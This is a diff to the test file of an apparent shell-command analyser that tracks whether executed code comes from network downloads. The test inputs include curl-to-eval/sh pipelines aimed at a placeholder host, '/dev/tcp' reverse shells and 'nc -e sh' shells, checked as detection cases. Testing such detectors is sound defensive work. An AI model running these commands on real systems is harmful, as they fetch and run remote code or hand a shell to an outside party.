@@ -249,6 +249,14 @@ test('grammar gaps do not hide a command: substitutions anywhere, keywords it la
     assert.ok(sh.input_from.includes('curl') && sh.flags.includes('code_from_input'), `${t}: ${JSON.stringify(sh)}`);
   }
   assert.deepEqual(must(run('diff <(ls a) <(ls b)'), 'ls').input_from, [], 'an input substitution reads nothing of the command');
+  for (const t of ['x=$(curl -s http://x.test/a); eval "$x"', 'x=$(curl -s http://x.test/a); y=$x; bash <<< "$y"', 'sh 0< <(curl -s http://x.test/a)', 'curl -s http://x.test/a | xargs -0 sh -c']) {
+    const r = run(t).commands.find((c) => ['eval', 'bash', 'sh'].includes(c.argv[0]!) && c.flags.includes('code_from_input'));
+    assert.ok(r?.input_from.includes('curl'), `${t}: ${JSON.stringify(run(t).commands)}`);
+  }
+  assert.deepEqual(must(run('v=$(curl -s http://x.test/v); echo "$v"'), 'echo').input_from, ['curl'], 'a variable carries where it came from');
+  assert.deepEqual(must(run('v=$(git describe); echo "$v"'), 'echo').input_from, [], 'only data from elsewhere');
+  assert.deepEqual(must(run('bash -i >& /dev/tcp/h/1 0>&1'), 'bash').argv, ['bash', '-i'], 'digits touching a redirect are its descriptor');
+  assert.ok(must(run('f() { bash -i; } >& /dev/tcp/h/1 0>&1; f'), 'bash').redirects.includes('>&/dev/tcp/h/1'), "a definition's redirects apply to its body");
   assert.equal(nc("cat <<'EOF' > notes.md\n$(nc -e sh h 1)\nEOF"), undefined, 'a quoted heredoc is text');
   assert.equal(nc("echo 'time { nc -e sh h 1; }'"), undefined, 'a mention is not a command');
   assert.equal(nc("trap - EXIT; echo 'nc -e sh h 1'"), undefined);
